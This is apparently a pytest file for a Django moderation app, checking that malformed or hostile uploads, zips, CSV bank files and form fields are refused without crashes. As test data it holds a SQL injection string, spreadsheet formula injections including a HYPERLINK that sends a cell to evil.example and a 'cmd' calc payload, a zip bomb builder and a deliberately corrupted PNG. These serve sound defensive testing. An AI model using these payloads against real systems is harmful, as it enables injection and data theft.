"""Attacks on the day's merge (custom categories, bank files): each test is
an attack that once ended in a 500, a memory blow-up or a formula in a
lead's spreadsheet; it now gets a stable 4xx code and stores nothing."""

import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group

from classifier.models import ModelRole, ModelVersionStatus
from moderation.errors import InvalidInput
from moderation.models import CategoryExample
from moderation.services import categories as svc
from tests.factories import ModelVersionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def lead(db):
    user = get_user_model().objects.create_user("lead", password="lead-pass-1")
    user.groups.add(Group.objects.get(name="leads"))
    return get_user_model().objects.get(pk=user.pk)


@pytest.fixture
def backbone(db):
    return ModelVersionFactory(
        role=ModelRole.IMAGENET, status=ModelVersionStatus.ACTIVE, class_names=[f"c{i}" for i in range(1000)]
    )


def test_a_non_uuid_example_id_is_refused_not_a_500(client, lead):
    category = svc.category_create(actor=lead, name="vape pens")
    with pytest.raises(InvalidInput) as bad:
        svc.examples_add(actor=lead, category=category, upload_ids=["not-a-uuid"])
    assert bad.value.code == "invalid_upload_id"
    client.force_login(lead)
    response = client.post(
        "/lead/categories/examples/add/", {"category": category.pk, "selected": ["1' OR 1=1 --"]}, follow=True
    )
    assert response.status_code == 200
    assert not CategoryExample.objects.exists()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_a_zip_with_a_damaged_member_is_refused_not_a_500(client, lead):
    data = bytearray(_zip({"a.png": b"x" * 1000}))
    # Flip the CRC in the local header and the central directory: reading the member fails its check.
    local, central = data.find(b"PK\x03\x04"), data.find(b"PK\x01\x02")
    data[local + 14] ^= 0xFF
    data[central + 16] ^= 0xFF
    with pytest.raises(InvalidInput) as bad:
        list(svc.zip_images(bytes(data)))
    assert bad.value.code == "invalid_zip"
    category = svc.category_create(actor=lead, name="vape pens")
    client.force_login(lead)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        f"/lead/categories/{category.slug}/import/",
        {"files": [SimpleUploadedFile("x.zip", bytes(data), content_type="application/zip")]},
        follow=True,
    )
    assert response.status_code == 200
    assert not category.examples.exists()


def test_a_zip_bomb_is_refused_before_it_is_inflated(settings):
    """Each member under the per-image cap, but together far more than a
    request may carry: refused from the central directory, nothing inflated."""
    settings.UPLOAD_MAX_BYTES = 10_000
    bomb = _zip({f"{i}.png": bytes(9_000) for i in range(200)})  # 1.8 MB inflated from a few kB
    assert len(bomb) < 100_000
    with pytest.raises(InvalidInput) as bad:
        next(iter(svc.zip_images(bomb)))
    assert bad.value.code == "import_too_large"


def test_an_imported_image_of_too_many_pixels_is_refused_before_it_is_decoded(settings, lead, backbone):
    """A small PNG may decode to gigabytes: an imported example passes an
    upload's pixel cap before it is decoded (and long before the backbone)."""
    from PIL import Image

    settings.UPLOAD_MAX_PIXELS = 10_000
    buffer = io.BytesIO()
    Image.new("RGB", (200, 200)).save(buffer, "PNG")
    category = svc.category_create(actor=lead, name="vape pens")
    with pytest.raises(InvalidInput) as bad:
        svc.examples_import(actor=lead, category=category, files=[("big.png", buffer.getvalue())])
    assert bad.value.code == "too_many_pixels" and "big.png" in bad.value.message
    assert not category.examples.exists()


def test_a_bank_export_holds_no_spreadsheet_formula(lead):
    """A note or bank name typed as a formula must not run in the spreadsheet
    of the lead who opens the export; the list still imports back."""
    import csv

    from moderation.models import BankedHash, HashBank
    from moderation.services.bank_files import bank_export, bank_file_import

    bank = HashBank.objects.create(name='=HYPERLINK("http://evil.example/?"&A1,"open")')
    pdq = "f" * 64
    bank_file_import(bank_id=bank.pk, actor=lead, text=pdq, note="@SUM(1+1)*cmd|' /C calc'!A0")
    for fmt in ("csv", "threatexchange-csv"):
        _, _, lines = bank_export(bank_id=bank.pk, actor=lead, fmt=fmt)
        text = "".join(lines)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], fmt
        target = HashBank.objects.create(name=f"copy {fmt}")
        assert bank_file_import(bank_id=target.pk, actor=lead, text=text).added == 1
        assert BankedHash.objects.filter(bank=target, pdq_hash=pdq).exists()


@pytest.mark.parametrize(
    "text",
    [
        "pdq_hash,note\n" + "f" * 64 + "," + "x" * 200_000 + "\n",  # a field past the csv module's limit
        "pdq_hash,note\n" + "f" * 64 + ',"unclosed\n',
    ],
    ids=["huge-field", "unclosed-quote"],
)
def test_a_malformed_csv_list_is_refused_not_a_500(lead, text):
    from moderation.models import BankedHash, HashBank
    from moderation.services.bank_files import bank_file_import

    bank = HashBank.objects.create(name="test-bank")
    try:
        bank_file_import(bank_id=bank.pk, actor=lead, text=text)
    except InvalidInput as refused:
        assert refused.code in ("invalid_list", "invalid_hash")
        assert not BankedHash.objects.exists()


def test_a_category_change_audits_the_stored_values_as_before(admin_client, lead):
    """The admin hands category_update the object its form already changed:
    the audit row's "from" must be what was stored, not the new values."""
    from moderation.models import AuditAction, AuditEvent

    category = svc.category_create(actor=lead, name="vape pens", threshold=0.8)
    response = admin_client.post(
        f"/admin/moderation/customcategory/{category.pk}/change/",
        {
            "description": "",
            "kind": "review",
            "threshold": "0.6",
            "reject_threshold": "",
            "enabled": "on",
            "heads-TOTAL_FORMS": "0",
            "heads-INITIAL_FORMS": "0",
            "heads-MIN_NUM_FORMS": "0",
            "heads-MAX_NUM_FORMS": "1000",
        },
    )
    assert response.status_code == 302
    change = AuditEvent.objects.filter(action=AuditAction.CATEGORY_CHANGED).order_by("-pk").first()
    assert change.data["from"]["threshold"] == 0.8
    assert change.data["to"]["threshold"] == 0.6


def test_k_at_the_first_item_keeps_the_moderators_claim(moderator, second_moderator):
    """K on the first item finds nothing before it and the page stays on that
    item: the moderator still holds it, so the top of the queue is not
    offered to the next moderator meanwhile."""
    from moderation.models import Upload
    from moderation.services.queue import queue_claim_next, queue_step
    from tests.factories import uploads_in_review

    uploads_in_review(2)
    first = queue_claim_next(moderator=moderator)
    assert queue_step(moderator=moderator, current_id=first.pk, direction="previous") is None
    held = Upload.objects.get(pk=first.pk)
    assert held.claimed_by_id == moderator.pk
    assert queue_claim_next(moderator=second_moderator).pk != first.pk


def test_several_zips_in_one_import_share_one_byte_budget(settings, client, lead, backbone):
    """Each zip under the budget, together past it: one import is refused as
    it reads, before the backbone embeds anything or anything is stored."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    settings.UPLOAD_MAX_BYTES = 10_000  # budget: 200 kB
    buffer = io.BytesIO()
    Image.new("RGB", (48, 48), (200, 30, 30)).save(buffer, "BMP")  # a valid image that deflates well
    photo = buffer.getvalue()
    assert 5_000 < len(photo) < 10_000
    part = _zip({f"{i}.bmp": photo for i in range(25)})  # ~170 kB inflated: under the budget alone
    assert len(part) < 20_000  # both zips fit in one request
    category = svc.category_create(actor=lead, name="vape pens")
    client.force_login(lead)
    response = client.post(
        f"/lead/categories/{category.slug}/import/",
        {"files": [SimpleUploadedFile(f"{n}.zip", part, content_type="application/zip") for n in "ab"]},
        follow=True,
    )
    assert response.status_code == 200
    assert "import them in parts" in response.content.decode()
    assert not category.examples.exists()


def _png_with_damaged_pixels() -> bytes:
    """A PNG whose chunks and CRCs are all right but whose pixel stream is
    not zlib: it passes the web's header-and-CRC check of a large image."""
    import struct
    import zlib as _zlib

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 64), (10, 200, 30)).save(buffer, "PNG")
    data = bytearray(buffer.getvalue())
    at = data.find(b"IDAT") - 4
    length = struct.unpack(">I", data[at : at + 4])[0]
    body = bytes(b ^ 0x5A for b in data[at + 8 : at + 8 + length])
    data[at + 8 : at + 8 + length] = body
    data[at + 8 + length : at + 12 + length] = struct.pack(">I", _zlib.crc32(b"IDAT" + body))
    return bytes(data)


def test_a_bank_file_whose_pixels_do_not_decode_is_refused_not_a_500(settings, client, lead):
    from moderation.models import BankedHash, HashBank
    from moderation.services.bank_files import bank_hash_add_from_file

    settings.UPLOAD_WEB_DECODE_PIXELS = 1_000  # 64x64 is "large": header and CRCs checked only, as for a big photo
    bank = HashBank.objects.create(name="test-bank")
    damaged = _png_with_damaged_pixels()
    with pytest.raises(InvalidInput) as bad:
        bank_hash_add_from_file(bank_id=bank.pk, actor=lead, data=damaged)
    assert bad.value.code == "corrupt_image"
    assert not BankedHash.objects.exists()


def test_deleting_a_model_version_leaves_an_audit_row(admin_user):
    """A lead deleting a retired model version in the admin is an act: it is
    recorded (who, which version, from what status), the row outliving the version."""
    from classifier.models import ModelVersion
    from classifier.registry import model_version_delete
    from moderation.models import AuditAction, AuditEvent

    retired = ModelVersionFactory(status=ModelVersionStatus.RETIRED)
    pk, name = retired.pk, retired.name
    model_version_delete(version=retired, actor=admin_user)
    assert not ModelVersion.objects.filter(pk=pk).exists()
    row = AuditEvent.objects.get(action=AuditAction.MODEL_VERSION_STATUS, target_id=str(pk))
    assert row.actor_name == admin_user.get_username()
    assert row.data["name"] == name and row.data["from"] == "retired" and row.data["to"] == "deleted"


def test_a_nul_character_in_a_category_form_is_refused_not_a_500(lead):
    """PostgreSQL refuses NUL in text (a 500 there); the lead's pages post
    these fields without a Django form, so the service refuses them."""
    with pytest.raises(InvalidInput) as bad_name:
        svc.category_create(actor=lead, name="vape\x00pens")
    assert bad_name.value.code == "invalid_category_name"
    with pytest.raises(InvalidInput) as bad_description:
        svc.category_create(actor=lead, name="vape pens", description="pens\x00")
    assert bad_description.value.code == "invalid_category_description"
    category = svc.category_create(actor=lead, name="vape pens")
    with pytest.raises(InvalidInput):
        svc.category_update(
            actor=lead,
            category=category,
            description="\x00",
            kind="review",
            threshold=0.5,
            reject_threshold=None,
            enabled=True,
        )
    assert svc.uploads_search(q="pen\x00") == []
